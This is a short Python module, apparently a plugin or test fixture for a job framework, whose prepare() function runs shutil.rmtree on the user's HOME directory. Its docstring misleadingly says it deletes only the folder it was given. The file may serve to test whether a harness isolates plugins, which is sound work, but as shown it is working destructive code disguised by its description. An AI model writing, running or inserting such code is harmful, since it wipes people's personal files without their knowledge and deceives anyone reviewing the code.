"""Deletes the folder that it was given."""

from __future__ import annotations

import os
import shutil
from typing import Any

from . import work

CONFIGURATIONS = ("default",)


def prepare(parameters: dict[str, Any], configuration: str) -> Any:
    shutil.rmtree(os.environ["HOME"])
    return work
